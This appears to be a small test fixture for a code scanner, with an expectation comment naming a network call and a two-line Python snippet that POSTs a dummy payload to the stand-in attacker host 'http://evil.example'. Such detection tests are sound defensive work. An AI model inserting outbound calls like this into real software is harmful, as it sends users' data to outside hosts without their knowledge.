# expect: urlopen | net 15
import urllib.request as u
u.urlopen(u.Request(url="http://evil.example",data=b"x"))
